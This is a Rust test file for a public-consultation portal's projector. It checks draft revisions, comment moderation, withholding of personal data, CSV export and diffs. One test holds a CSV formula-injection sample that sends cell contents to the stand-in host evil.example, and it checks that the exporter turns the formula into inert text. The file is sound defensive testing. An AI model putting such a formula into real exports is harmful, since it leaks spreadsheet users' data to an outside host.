//! The two views after the hand-made story of [`super::scenario`]: each assertion is a
//! fact the portal or the open data shows, checked on the rows the projector wrote.

use std::collections::HashMap;

use serde_json::{json, Value};

use super::consultations::{self, Material, CONSULTATIONS};
use super::drafts::{self, ArticlesAt, DRAFTS};
use super::scenario::{self, DOC_1, DOC_2, DOC_3, DOC_4, PERSON_1, PERSON_2};
use super::{comments, comments_csv, diff, ParticipationProjector};
use crate::support::scenario::{apply, project, row, Rows};
use crate::Projector;

fn rows() -> Rows {
    project(&ParticipationProjector, &scenario::entries())
}

/// Comment texts as the HTTP layer would read them, for every comment (the
/// presentation must still refuse to show the hidden ones).
fn every_text() -> HashMap<u64, String> {
    [
        (1, "Préciser l'objet."),
        (2, "Achetez maintenant !"),
        (3, "Mon voisin M. X, 06 00 00 00 00"),
        (4, "Supprimer le registre."),
    ]
    .into_iter()
    .map(|(n, t)| (n, t.to_owned()))
    .collect()
}

#[test]
fn a_draft_keeps_every_revision_its_consultation_and_its_submission() {
    let rows = rows();
    let d1 = row(&rows, DRAFTS, "D1");
    assert_eq!(d1["institution"], "MCRP");
    assert_eq!(d1["status"], "submitted");
    assert_eq!(d1["latest_revision"], 3);
    assert_eq!(d1["submission_note"], "Transmis au Secrétariat général.");
    assert_eq!(d1["submitted_index"], 17);
    assert_eq!(drafts::revision_numbers(d1), [1, 2, 3]);

    let r2 = drafts::revision(d1, 2).unwrap();
    assert_eq!(r2["articles"], Value::Null);
    let sha = domain::participation::text_sha256(&scenario::revision_2());
    assert_eq!(drafts::articles_at(r2), ArticlesAt::Document(sha.clone()));
    assert_eq!(r2["text_sha256"], sha);
    assert_eq!(
        r2["article_ids"],
        json!(["art-1", "art-2", "art-3", "art-4"])
    );
    assert_eq!(r2["index"], 3);
    assert_eq!(
        drafts::articles_at(drafts::revision(d1, 1).unwrap()),
        ArticlesAt::Inline(scenario::revision_1())
    );
    let r3 = drafts::revision(d1, 3).unwrap();
    assert_eq!(r3["motivated_by"][0]["comment"], 1);
    assert_eq!(r3["motivated_by"][1]["recommendation"], "R-1");

    // The page shows revision 2's articles from its document, and links.
    let mut texts = HashMap::new();
    texts.insert(2, scenario::revision_2());
    let page = drafts::present(d1, &texts);
    assert_eq!(page["revisions_count"], 3);
    assert_eq!(page["revisions"][1]["articles_source"], "document");
    assert_eq!(page["revisions"][1]["articles"][3]["id"], "art-4");
    assert_eq!(page["revisions"][0]["articles_source"], "inline");
    assert_eq!(page["revisions"][0]["diff"], Value::Null);
    assert_eq!(
        page["revisions"][2]["diff"],
        "/v1/drafts/D1/diff?from=2&to=3"
    );
    assert_eq!(
        page["revisions"][2]["motivated_by"][0]["link"],
        "/v1/consultations/C1"
    );
    assert_eq!(page["revisions"][2]["entry"], "/v1/log/entries/16");
    assert_eq!(page["consultations"][0]["id"], "C1");
    assert_eq!(page["consultations"][0]["revision"], 2);
    assert_eq!(page["audit_trail"], "/v1/streams/draft/D1");
    assert_eq!(page["entries"].as_array().unwrap().len(), 5);
    // Without the document's text, revision 2 shows no articles rather than wrong ones.
    assert_eq!(
        drafts::present(d1, &HashMap::new())["revisions"][1]["articles"],
        Value::Null
    );

    let listed = drafts::summary(d1);
    assert_eq!(listed["revisions_count"], 3);
    assert!(listed.get("revisions").is_none() && listed.get("entries").is_none());
}

#[test]
fn a_consultation_keeps_comments_moderation_responses_and_results() {
    let rows = rows();
    let c1 = row(&rows, CONSULTATIONS, "C1");
    assert_eq!(c1["status"], "results");
    assert_eq!(c1["year"], 2026);
    assert_eq!(c1["institution"], "MCRP");
    assert_eq!(c1["draft"], "D1");
    assert_eq!(c1["revision"], 2);
    assert_eq!(c1["comments_at_close"], 4);
    assert_eq!(c1["closed_index"], 13);

    let c = &c1["comments"];
    assert_eq!(c["1"]["channel"], "association");
    assert_eq!(c["1"]["association"], "A1");
    assert_eq!(c["1"]["article"], "art-1");
    assert_eq!(c["1"]["document"], DOC_1);
    assert_eq!(c["2"]["channel"], "public");
    assert_eq!(c["2"]["person"], PERSON_1);
    assert_eq!(c["2"]["article"], Value::Null);
    // Hidden then restored: visible, with both actions in its history.
    assert_eq!(c["2"]["hidden"], false);
    assert_eq!(comments::history(&c["2"]).len(), 2);
    assert!(comments::is_restored(&c["2"]));
    // Hidden on personal data: its text is withheld.
    assert_eq!(c["3"]["hidden"], true);
    assert_eq!(c["3"]["withheld"], true);
    assert_eq!(comments::ground(&c["3"]).as_deref(), Some("personal_data"));
    assert_eq!(c["1"]["response"]["position"], "accepted");
    assert_eq!(c["4"]["response"]["reasoning"], "Le registre est remplacé.");
    assert_eq!(c["3"]["response"], Value::Null);
    assert_eq!(c1["results"]["recommendations"][0]["id"], "R-1");
    assert_eq!(c1["results"]["answered"], 3);
    assert_eq!(c1["motivated_revisions"]["3"]["comments"], json!([1]));
    assert_eq!(
        c1["motivated_revisions"]["3"]["recommendations"],
        json!(["R-1"])
    );

    let counts = comments::counts(&consultations::comment_rows(c1));
    assert_eq!(
        counts,
        json!({"received": 4, "visible": 3, "hidden": 1, "restored": 1, "withheld": 1,
               "answered": 3, "unanswered_visible": 0, "participants": 4})
    );
    // Only public texts are read, and only names of people not erased are looked up.
    assert_eq!(
        consultations::public_documents(c1),
        [
            (1, DOC_1.to_owned()),
            (2, DOC_2.to_owned()),
            (4, DOC_4.to_owned())
        ]
    );
    assert_eq!(
        consultations::persons_to_name(c1),
        [(2, PERSON_1.to_owned())]
    );
    assert!(!consultations::public_documents(c1)
        .iter()
        .any(|(_, d)| d == DOC_3));
}

#[test]
fn the_consultation_page_groups_comments_per_article_and_never_shows_hidden_text() {
    let rows = rows();
    let c1 = row(&rows, CONSULTATIONS, "C1");
    let texts = every_text();
    let mut authors = HashMap::new();
    authors.insert(2, "Samira B.".to_owned());
    authors.insert(3, "Erased Person".to_owned());
    let articles = scenario::revision_2();
    let page = consultations::present(
        c1,
        &Material {
            draft: Some(row(&rows, DRAFTS, "D1")),
            articles: Some(&articles),
            texts: &texts,
            authors: &authors,
        },
    );
    assert_eq!(
        page["draft_title"],
        "Projet de loi sur la consultation publique"
    );
    assert_eq!(page["articles"].as_array().unwrap().len(), 4);
    assert_eq!(page["articles"][0]["heading"], "Objet");
    assert_eq!(page["articles"][0]["comments"][0]["number"], 1);
    assert_eq!(
        page["articles"][0]["comments"][0]["text"],
        "Préciser l'objet."
    );
    assert_eq!(
        page["articles"][0]["comments"][0]["response"]["position"],
        "accepted"
    );
    assert_eq!(
        page["articles"][0]["comments"][0]["motivated_revisions"],
        json!([{"draft": "D1", "revision": 3, "diff": "/v1/drafts/D1/diff?from=2&to=3"}])
    );
    assert_eq!(page["text_comments"][0]["number"], 2);
    assert_eq!(page["text_comments"][0]["author"], "Samira B.");
    assert_eq!(page["text_comments"][0]["status"], "visible");

    let hidden = &page["articles"][1]["comments"][0];
    assert_eq!(hidden["number"], 3);
    assert_eq!(hidden["status"], "hidden");
    assert_eq!(hidden["text"], Value::Null);
    assert_eq!(hidden["author"], Value::Null);
    assert_eq!(hidden["withheld"], true);
    assert_eq!(hidden["placeholder"]["ground"], "personal_data");
    assert_eq!(
        hidden["placeholder"]["label"]["fr"],
        "Données personnelles d'autrui"
    );
    assert_eq!(hidden["moderation"][0]["action"], "hide");
    assert!(
        !page.to_string().contains("06 00 00 00 00"),
        "a hidden text leaked"
    );
    assert!(
        !page.to_string().contains(PERSON_1),
        "a person reference leaked"
    );

    assert_eq!(
        page["results"]["recommendations"][0]["motivated_revisions"][0]["revision"],
        3
    );
    assert_eq!(page["results"]["at_publication"]["hidden"], 1);
    assert_eq!(page["counts"]["received"], 4);
    assert_eq!(page["erasures"][0]["reason"], "Demande de l'intéressé");
    assert!(!page.to_string().contains(PERSON_2));
    assert_eq!(page["consulted_revision"]["number"], 2);

    // Without the text, the articles are still listed by id with their comments.
    let page = consultations::present(
        c1,
        &Material {
            draft: None,
            articles: None,
            texts: &texts,
            authors: &HashMap::new(),
        },
    );
    assert_eq!(page["articles"][3]["id"], "art-4");
    assert_eq!(page["articles"][3]["heading"], Value::Null);
    assert_eq!(page["articles"][3]["comments"][0]["number"], 4);
    assert_eq!(page["consulted_revision"]["text_available"], false);

    let listed = consultations::summary(c1, Some(row(&rows, DRAFTS, "D1")));
    assert!(listed.get("comments").is_none());
    assert_eq!(listed["counts"]["hidden"], 1);
    assert_eq!(listed["results"]["recommendations_count"], 1);
    assert_eq!(listed["audit_trail"], "/v1/streams/consultation/C1");
}

#[test]
fn the_csv_lists_every_comment_without_personal_data_or_hidden_text() {
    let rows = rows();
    let c1 = row(&rows, CONSULTATIONS, "C1").clone();
    let texts: comments_csv::Texts = every_text()
        .into_iter()
        .map(|(n, t)| (("C1".to_owned(), n), t))
        .collect();
    let bytes = comments_csv::write(&[c1], &texts).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(
        !text.contains(PERSON_1) && !text.contains(PERSON_2),
        "{text}"
    );
    assert!(!text.contains("06 00 00 00 00"), "{text}");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        comments_csv::COLUMNS
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 4);
    let col = |name: &str| {
        comments_csv::COLUMNS
            .iter()
            .position(|c| *c == name)
            .unwrap()
    };
    assert_eq!(&records[0][col("comment_number")], "1");
    assert_eq!(&records[0][col("association_id")], "A1");
    assert_eq!(&records[0][col("text")], "Préciser l'objet.");
    assert_eq!(&records[0][col("response_position")], "accepted");
    assert_eq!(&records[1][col("channel")], "public");
    assert_eq!(&records[1][col("status")], "visible");
    assert_eq!(&records[1][col("ground")], "");
    assert_eq!(&records[2][col("status")], "hidden");
    assert_eq!(&records[2][col("ground")], "personal_data");
    assert_eq!(&records[2][col("withheld")], "true");
    assert_eq!(&records[2][col("text")], "");
    assert_eq!(&records[2][col("article")], "art-2");
    assert_eq!(
        &records[3][col("response_reasoning")],
        "Le registre est remplacé."
    );
    assert_eq!(&records[3][col("submitted_at")], "2026-03-10T09:00:00.000Z");
}

#[test]
fn the_diff_of_the_motivated_revision_links_its_changes_to_the_comment() {
    let rows = rows();
    let c1 = row(&rows, CONSULTATIONS, "C1");
    let d1 = row(&rows, DRAFTS, "D1");
    let commented: HashMap<(String, u64), String> = consultations::comment_rows(c1)
        .iter()
        .filter_map(|c| {
            Some((
                ("C1".to_owned(), c["number"].as_u64()?),
                c["article"].as_str()?.to_owned(),
            ))
        })
        .collect();
    let (r2, r3) = (
        drafts::revision(d1, 2).unwrap(),
        drafts::revision(d1, 3).unwrap(),
    );
    let motivations = diff::motivations(&[r3], &commented);
    let (a2, a3) = (scenario::revision_2(), scenario::revision_3());
    let doc = diff::present(
        "D1",
        diff::Side {
            revision: r2,
            articles: &a2,
        },
        diff::Side {
            revision: r3,
            articles: &a3,
        },
        &[r3],
        &motivations,
    );
    assert_eq!(
        doc["summary"],
        json!({"added": 1, "removed": 1, "changed": 1, "unchanged": 2})
    );
    let art1 = &doc["articles"][0];
    assert_eq!(art1["change"], "changed");
    assert_eq!(art1["motivated_by"][0]["comment"], 1);
    assert_eq!(art1["motivated_by"][0]["scope"], "article");
    assert_eq!(art1["motivated_by"][1]["recommendation"], "R-1");
    let inserted: String = art1["words"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| w["op"] == "insert")
        .map(|w| w["text"].as_str().unwrap())
        .collect();
    assert!(inserted.contains("garanties"), "{art1}");
    let art5 = doc["articles"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "art-5")
        .unwrap();
    assert_eq!(art5["change"], "added");
    assert_eq!(
        art5["motivated_by"],
        json!([{"consultation": "C1", "comment": null,
        "recommendation": "R-1", "revision": 3, "article": null, "scope": "text",
        "link": "/v1/consultations/C1"}])
    );
    let art4 = doc["articles"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "art-4")
        .unwrap();
    assert_eq!(art4["change"], "removed");
}

#[test]
fn replaying_every_entry_changes_no_row() {
    // The runner may apply an entry again after a crash, and two processes may project
    // the same log: collections must not grow and states must not flip.
    let entries = scenario::entries();
    let once = project(&ParticipationProjector, &entries);
    let mut twice = Rows::new();
    for e in &entries {
        for _ in 0..2 {
            for change in ParticipationProjector.project(e).unwrap() {
                apply(&mut twice, change);
            }
        }
    }
    assert_eq!(once, twice);
    // And projecting the whole log a second time over the rows changes nothing either.
    let mut again = once.clone();
    for e in &entries {
        for change in ParticipationProjector.project(e).unwrap() {
            apply(&mut again, change);
        }
    }
    assert_eq!(once, again);
}

#[test]
fn other_streams_change_nothing_and_malformed_entries_are_reported() {
    let mut e = scenario::entries().remove(0);
    e.stream = "offer/O1".into();
    assert!(ParticipationProjector.project(&e).unwrap().is_empty());
    e.stream = "no-slash".into();
    assert!(ParticipationProjector.project(&e).unwrap().is_empty());
    for (stream, event_type, data) in [
        ("consultation/C9", "CommentModerated", json!("garbage")),
        ("consultation/C9", "CommentsAnswered", json!("garbage")),
        ("draft/D9", "RevisionPublished", json!("garbage")),
        ("consultation/C9", "ConsultationOpened", json!("garbage")),
        (
            "consultation/C9",
            "ConsultationOpened",
            json!({"draft": ""}),
        ),
        ("draft/D9", "NoSuchEvent", json!({})),
    ] {
        e.stream = stream.into();
        e.event_type = event_type.into();
        e.data = data;
        let refused = ParticipationProjector.project(&e).unwrap_err();
        assert_eq!(refused.index, e.index, "{stream} {event_type}");
    }
}

#[test]
fn the_csv_makes_formulas_text_and_streams_the_same_bytes() {
    let rows = rows();
    let c1 = row(&rows, CONSULTATIONS, "C1").clone();
    let mut texts: comments_csv::Texts = every_text()
        .into_iter()
        .map(|(n, t)| (("C1".to_owned(), n), t))
        .collect();
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")";
    texts.insert(("C1".to_owned(), 1), formula.to_owned());
    let whole = comments_csv::write(std::slice::from_ref(&c1), &texts).unwrap();
    let mut reader = csv::Reader::from_reader(whole.as_slice());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let col = |name: &str| {
        comments_csv::COLUMNS
            .iter()
            .position(|c| *c == name)
            .unwrap()
    };
    assert_eq!(records[0][col("text")], format!("'{formula}"));
    assert_eq!(&records[0][col("comment_number")], "1");
    // Header, then the comments one at a time: the same bytes as the whole document.
    let mut pieces = comments_csv::header().unwrap();
    for comment in consultations::comment_rows(&c1) {
        pieces.extend(comments_csv::rows(&c1, &[comment], &texts).unwrap());
    }
    assert_eq!(pieces, whole);
}
